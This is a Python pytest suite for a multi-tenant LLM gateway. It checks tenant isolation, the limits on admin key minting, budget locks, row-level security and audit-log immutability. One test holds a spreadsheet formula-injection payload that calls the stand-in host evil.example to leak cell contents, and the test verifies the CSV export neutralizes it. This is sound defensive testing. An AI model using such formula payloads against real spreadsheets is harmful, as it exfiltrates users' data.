"""Attacks across tenants and on the admin API (issue #11, items 7, 8, 9, 10, 21).

Each test is one attack a tenant's key holder or a tenant admin could try, through real HTTP
against two gateway replicas sharing one PostgreSQL and one Redis.
"""

from __future__ import annotations

import asyncio
import csv
import io
import uuid

import asyncpg
import httpx
import openai
import pytest

from gateway.db import tenant_transaction
from tests.conftest import MASTER_KEY, Gateway, wait_until
from tests.test_policies import HELLO, admin, cfg, ledger_rows, new_key


@pytest.fixture(scope="module")
def gw(tmp_root, services, module_mock):
    g = Gateway(tmp_root, cfg(module_mock), services)
    yield g
    g.stop()


def as_key(gw: Gateway, key: str, method: str, path: str, **kw) -> httpx.Response:
    return httpx.request(method, f"{gw.url}{path}", headers={"Authorization": f"Bearer {key}"}, timeout=30, **kw)


def tenant() -> str:
    return f"t-{uuid.uuid4().hex[:8]}"


def chat(gw: Gateway, key: str, **headers) -> openai.types.chat.ChatCompletion:
    client = openai.OpenAI(base_url=f"{gw.url}/v1", api_key=key, max_retries=0)
    return client.chat.completions.create(model="priced", messages=HELLO, max_tokens=5, extra_headers=headers)


# ---- item 7: admin bodies and CSV export ------------------------------------------------------------
def test_item7_admin_body_over_the_limit_is_refused_and_stores_nothing(gw):
    before = admin(gw, "GET", "/admin/keys").json()["data"]
    huge = {"name": "x" * 10, "models": ["m" * 200] * 5000}  # ~1 MB
    r = admin(gw, "POST", "/admin/keys", json=huge)
    assert r.status_code == 413 and r.json()["error"]["type"] == "invalid_request_error"
    assert admin(gw, "GET", "/admin/keys").json()["data"] == before


def test_item7_spend_csv_neutralizes_formula_injection(gw):
    key = new_key(gw, tenant=tenant())
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    chat(gw, key["key"], **{"x-gateway-customer": evil})
    wait_until(
        lambda: any(r["customer"] == evil for r in admin(gw, "GET", "/admin/spend?group_by=customer").json()["data"]),
        timeout=15,
        what="spend row",
    )
    text = admin(gw, "GET", "/admin/spend", params={"group_by": "customer", "format": "csv"}).text
    cells = [row[0] for row in csv.reader(io.StringIO(text))]
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


# ---- item 8: tenant-scoped admins -----------------------------------------------------------------
def test_item8_tenant_admin_sees_and_touches_only_its_own_tenant(gw, services):
    ta, tb = tenant(), tenant()
    admin_a = new_key(gw, tenant=ta, scopes=["admin"])
    user_a, user_b = new_key(gw, tenant=ta), new_key(gw, tenant=tb)
    bud_b = admin(gw, "POST", "/admin/budgets", json={"scope": "customer", "scope_value": "c", "limit_usd": 5}).json()
    rid_b = chat(gw, user_b["key"])._request_id
    wait_until(lambda: ledger_rows(services[0], "request_id = $1", rid_b), timeout=15, what="ledger row")

    keys = as_key(gw, admin_a["key"], "GET", "/admin/keys?all=true").json()["data"]
    assert {k["tenant"] for k in keys} == {ta} and user_a["id"] in {k["id"] for k in keys}
    assert all(b["tenant"] == ta for b in as_key(gw, admin_a["key"], "GET", "/admin/budgets").json()["data"])
    assert as_key(gw, admin_a["key"], "GET", f"/admin/budgets/{bud_b['id']}").status_code == 404
    assert as_key(gw, admin_a["key"], "GET", f"/admin/requests/{rid_b}").status_code == 404
    assert as_key(gw, admin_a["key"], "DELETE", f"/admin/keys/{user_b['id']}").status_code == 404
    spend = as_key(gw, admin_a["key"], "GET", "/admin/spend?group_by=tenant").json()["data"]
    assert {r["tenant"] for r in spend} <= {ta}
    # ?tenant= is the super-admin's filter; a tenant admin cannot use it to look elsewhere
    spend = as_key(gw, admin_a["key"], "GET", f"/admin/spend?group_by=tenant&tenant={tb}").json()["data"]
    assert {r["tenant"] for r in spend} <= {ta}
    # B's key still works: nothing of B's was changed
    assert chat(gw, user_b["key"]).choices
    # the super-admin sees both
    tenants = {k["tenant"] for k in admin(gw, "GET", "/admin/keys").json()["data"]}
    assert {ta, tb} <= tenants


def test_item8_tenant_admin_cannot_mint_a_key_wider_than_itself(gw):
    ta = tenant()
    expiry = "2099-01-01T00:00:00Z"
    boss = new_key(
        gw, tenant=ta, scopes=["admin"], models=["priced"], expires_at=expiry, rpm=50, allowed_ips=["127.0.0.0/8"]
    )
    refused = [
        ({"tenant": "someone-else"}, "tenant"),
        ({"models": ["priced", "other"]}, "models"),
        ({"expires_at": "2100-01-01T00:00:00Z"}, "expires_at"),
        ({"rpm": 500}, "rpm"),
        ({"allowed_ips": ["0.0.0.0/0"]}, "allowed_ips"),
    ]
    for extra, param in refused:
        r = as_key(gw, boss["key"], "POST", "/admin/keys", json={"name": "wide", **extra})
        assert r.status_code == 403, (extra, r.text)
        assert r.json()["error"]["param"] == param
    # what it leaves out, it inherits: no "permanent replacement for itself"
    child = as_key(gw, boss["key"], "POST", "/admin/keys", json={"name": "child", "scopes": ["admin"]}).json()
    assert child["tenant"] == ta and child["models"] == ["priced"]
    assert child["expires_at"] == boss["expires_at"] and child["limits"]["rpm"] == 50
    assert child["allowed_ips"] == ["127.0.0.0/8"]
    # and the child cannot widen itself either
    r = as_key(gw, child["key"], "POST", "/admin/keys", json={"name": "gc", "models": ["other"]})
    assert r.status_code == 403


def test_item8_minted_children_share_the_minters_rate_window(gw):
    """A key limited to 4 requests a minute that mints children (each inheriting rpm 4) cannot
    turn them into 4 per child: every request of the family counts in the minter's window."""
    boss = new_key(gw, tenant=tenant(), scopes=["admin"], rpm=4)
    kids = [as_key(gw, boss["key"], "POST", "/admin/keys", json={"name": f"kid{i}"}).json() for i in range(3)]
    grandchild = as_key(gw, kids[0]["key"], "POST", "/admin/keys", json={"name": "gc", "scopes": []})
    assert grandchild.status_code == 403  # kids hold no admin scope
    served = refused = 0
    for key in [k["key"] for k in kids] * 3:  # 9 requests from three children, rpm 4 each
        try:
            chat(gw, key)
            served += 1
        except openai.RateLimitError as exc:
            refused += 1
            assert "minting key" in exc.message
    # one minute window (a minute boundary in the burst may let a second window's worth in)
    assert served <= 8 and refused >= 1, (served, refused)
    if served == 4:
        with pytest.raises(openai.RateLimitError):
            chat(gw, boss["key"])  # the minter's own requests share the same window


def test_item8_tenant_admin_cannot_lift_a_budget_the_super_admin_set(gw):
    ta = tenant()
    boss = new_key(gw, tenant=ta, scopes=["admin"])
    cap = admin(gw, "POST", "/admin/budgets", json={"scope": "tenant", "scope_value": ta, "limit_usd": 1}).json()
    assert cap["locked"] is True and cap["tenant"] == ta
    r = as_key(gw, boss["key"], "PATCH", f"/admin/budgets/{cap['id']}", json={"limit_usd": 1000})
    assert r.status_code == 403 and r.json()["error"]["code"] == "budget_locked"
    assert as_key(gw, boss["key"], "DELETE", f"/admin/budgets/{cap['id']}").status_code == 403
    assert admin(gw, "GET", f"/admin/budgets/{cap['id']}").json()["limit_usd"] == 1
    # its own budgets it manages freely, in its own tenant only
    own = as_key(gw, boss["key"], "POST", "/admin/budgets", json={"scope": "user", "scope_value": "u", "limit_usd": 2})
    assert own.status_code == 201 and own.json()["tenant"] == ta and own.json()["locked"] is False
    r = as_key(
        gw,
        boss["key"],
        "POST",
        "/admin/budgets",
        json={"scope": "tenant", "scope_value": "other-tenant", "limit_usd": 2},
    )
    assert r.status_code == 403


# ---- item 9: attribution scopes are the tenant's own --------------------------------------------------
def test_item9_a_tenant_cannot_spend_another_tenants_customer_budget(gw):
    ta, tb = tenant(), tenant()
    key_a, key_b = new_key(gw, tenant=ta), new_key(gw, tenant=tb)
    bud = admin(
        gw,
        "POST",
        "/admin/budgets",
        json={"tenant": tb, "scope": "customer", "scope_value": "bigco", "limit_usd": 0.00005, "period": "daily"},
    ).json()
    assert bud["tenant"] == tb
    for _ in range(5):  # A names B's customer: A is served, B's budget is untouched
        chat(gw, key_a["key"], **{"x-gateway-customer": "bigco"})
    assert admin(gw, "GET", f"/admin/budgets/{bud['id']}").json()["spent_usd"] == 0
    # B's own requests for bigco are what count
    for _ in range(3):
        chat(gw, key_b["key"], **{"x-gateway-customer": "bigco"})
    assert admin(gw, "GET", f"/admin/budgets/{bud['id']}").json()["spent_usd"] > 0


def test_item9_a_key_may_assert_only_the_attribution_values_it_was_given(gw):
    key = new_key(gw, tenant=tenant(), attribution={"customer": ["acme-*"], "tags": ["web"]})
    assert chat(gw, key["key"], **{"x-gateway-customer": "acme-eu"}).choices
    for headers, param in (
        ({"x-gateway-customer": "bigco"}, "metadata.customer"),
        ({"x-gateway-customer": "acme-eu", "x-gateway-labels": "web,internal"}, "metadata.tags"),
    ):
        with pytest.raises(openai.PermissionDeniedError) as err:
            chat(gw, key["key"], **headers)
        assert err.value.code == "attribution_not_allowed" and err.value.param == param
    r = admin(gw, "POST", "/admin/keys", json={"name": "x", "attribution": {"color": ["red"]}})
    assert r.status_code == 400 and r.json()["error"]["param"].startswith("attribution")


# ---- item 10: row-level security as the second wall ------------------------------------------------------
def test_item10_a_query_without_a_tenant_filter_sees_only_its_tenant(gw, services):
    ta, tb = tenant(), tenant()
    new_key(gw, tenant=ta)
    key_b = new_key(gw, tenant=tb)
    admin(gw, "POST", "/admin/budgets", json={"tenant": tb, "scope": "user", "scope_value": "u", "limit_usd": 3})
    rid = chat(gw, key_b["key"])._request_id
    wait_until(lambda: ledger_rows(services[0], "request_id = $1", rid), timeout=15, what="ledger row")

    async def go() -> None:
        pool = await asyncpg.create_pool(services[0], min_size=1, max_size=2)
        try:
            async with tenant_transaction(pool, ta) as conn:
                # deliberately no WHERE: the wall is row-level security, not the query
                assert {r["tenant"] for r in await conn.fetch("SELECT tenant FROM api_keys")} == {ta}
                assert key_b["id"] not in {r["id"] for r in await conn.fetch("SELECT id FROM api_keys")}
                assert all(r["tenant"] == ta for r in await conn.fetch("SELECT tenant FROM budgets"))
                assert all(r["tenant"] == ta for r in await conn.fetch("SELECT tenant FROM ledger"))
                assert await conn.fetchval("SELECT count(*) FROM ledger WHERE request_id = $1", rid) == 0
                changed = await conn.execute("UPDATE api_keys SET name = 'pwned'")
                assert changed == "UPDATE 1"  # its own key only
            async with tenant_transaction(pool, ta) as conn:
                with pytest.raises(asyncpg.InsufficientPrivilegeError):
                    await conn.execute(
                        "INSERT INTO budgets (id, tenant, scope, scope_value, limit_usd, period) "
                        "VALUES ('bud_x', $1, 'user', 'x', 1, 'none')",
                        tb,
                    )
            async with pool.acquire() as conn:
                assert await conn.fetchval("SELECT name FROM api_keys WHERE id = $1", key_b["id"]) != "pwned"
        finally:
            await pool.close()

    asyncio.run(go())


# ---- item 21: the access audit log -----------------------------------------------------------------
def test_item21_admin_actions_and_reads_are_logged_and_cannot_be_edited(gw, services):
    ta = tenant()
    boss = new_key(gw, tenant=ta, scopes=["admin"])
    as_key(gw, boss["key"], "GET", "/admin/spend")
    as_key(gw, boss["key"], "GET", "/admin/requests/req_nothing")
    as_key(gw, boss["key"], "POST", "/admin/keys", json={"name": "logged"})
    plain = new_key(gw, tenant=ta)
    as_key(gw, plain["key"], "GET", "/admin/keys")  # refused, and recorded
    log = admin(gw, "GET", "/admin/access-log", params={"actor": boss["id"]}).json()["data"]
    actions = {(e["action"], e["status"]) for e in log}
    assert {("spend", 200), ("request_record", 404), ("create_key", 201)} <= actions
    assert all(e["actor_tenant"] == ta and e["client_addr"] == "127.0.0.1" for e in log)
    denied = admin(gw, "GET", "/admin/access-log", params={"actor": plain["id"]}).json()["data"]
    assert [(e["path"], e["status"]) for e in denied] == [("/admin/keys", 403)]
    # only the super-admin reads it; nobody edits it
    assert as_key(gw, boss["key"], "GET", "/admin/access-log").status_code == 403
    assert admin(gw, "DELETE", "/admin/access-log").status_code == 405

    async def tamper() -> None:
        conn = await asyncpg.connect(services[0])
        try:
            with pytest.raises(asyncpg.RaiseError):
                await conn.execute("DELETE FROM access_audit")
            with pytest.raises(asyncpg.RaiseError):
                await conn.execute("UPDATE access_audit SET status = 200")
        finally:
            await conn.close()

    asyncio.run(tamper())
    assert MASTER_KEY not in str(log)


def test_item7_nul_characters_get_a_400_and_never_jam_the_audit_ledger(gw, services):
    """Found by review: PostgreSQL's jsonb cannot hold U+0000; one such attribution value failed
    every ledger batch it was in, forever, for every tenant."""
    r = admin(gw, "POST", "/admin/keys", json={"name": "a\u0000b"})
    assert r.status_code == 400 and r.json()["error"]["param"] == "name"
    r = admin(gw, "GET", "/admin/requests", params={"client_request_id": "a\u0000b"})
    assert r.status_code == 400 and "error" in r.json()
    key = new_key(gw, tenant=tenant())
    client = openai.OpenAI(base_url=f"{gw.url}/v1", api_key=key["key"], max_retries=0)
    poisoned = client.chat.completions.create(model="priced", messages=HELLO, max_tokens=5, user="a\u0000b")
    after = client.chat.completions.create(model="priced", messages=HELLO, max_tokens=5)
    for rid in (poisoned._request_id, after._request_id):
        wait_until(lambda rid=rid: ledger_rows(services[0], "request_id = $1", rid), timeout=15, what="ledger row")
    assert ledger_rows(services[0], "request_id = $1", poisoned._request_id)[0]["end_user"] == "a\ufffdb"


def test_item8_children_of_a_minter_on_the_default_key_limit_share_its_window():
    """An admin key with no rpm of its own is held to the configured default key limit. Its
    children (inheriting no limit, so each also on the default) must count in its window too:
    else minting N children multiplied the default key rate by N."""
    from types import SimpleNamespace

    from core.config import Limit, Limits
    from core.types import Identity, RequestContext
    from policies.auth import _shared_limits
    from policies.engine import PolicyEngine
    from policies.minting import narrow

    boss = Identity(key_id="boss-id", name="boss", tenant="t1", scopes=frozenset({"admin"}))
    _, meta = narrow(boss, None, {"scopes": ["admin"]})
    child = Identity(key_id="kid-id", name="kid", tenant="t1", shared_limits=_shared_limits(meta["shared_limits"]))
    _, meta2 = narrow(child, None, {})
    grandchild = Identity(key_id="gc-id", name="gc", tenant="t1", shared_limits=_shared_limits(meta2["shared_limits"]))
    stub = SimpleNamespace(limits=Limits(key=Limit(rpm=10)))
    ctx = RequestContext(request_id="r", endpoint="chat", body={}, started=0.0, identity=grandchild, model="m")
    attr = {"key": "gc-id", "user": None, "tenant": "t1", "agent": None}
    bases = {base for _, base, _ in PolicyEngine._rate_limits(stub, ctx, attr)}
    assert {"gw:{gw}:rl:key:gc-id:r", "gw:{gw}:rl:key:kid-id:r", "gw:{gw}:rl:key:boss-id:r"} <= bases
    # a bare shared entry is never an unlimited one, and no entry names no limit
    assert _shared_limits([{"key": "x", "default": "yes"}, {"key": "y"}]) == ()


def test_item8_a_minting_chain_deeper_than_the_cap_still_counts_in_the_roots_window():
    """Admin keys minting admin keys 20 deep: the deepest still shares the root's window (keeping
    only the nearest 16 dropped it, so one deep chain per root child multiplied the root's rate)."""
    from core.config import Limit
    from core.types import Identity
    from policies.auth import _shared_limits
    from policies.minting import MAX_SHARED_LIMITS, narrow

    key = Identity(key_id="root", name="root", tenant="t1", scopes=frozenset({"admin"}), limits=Limit(rpm=4))
    for depth in range(20):
        _, meta = narrow(key, None, {"scopes": ["admin"]})
        key = Identity(
            key_id=f"k{depth}",
            name="k",
            tenant="t1",
            scopes=frozenset({"admin"}),
            limits=Limit(**meta["limits"]),
            shared_limits=_shared_limits(meta["shared_limits"]),
        )
    names = [k for k, _ in key.shared_limits]
    assert len(names) == MAX_SHARED_LIMITS and names[0] == "k18" and names[-1] == "root"
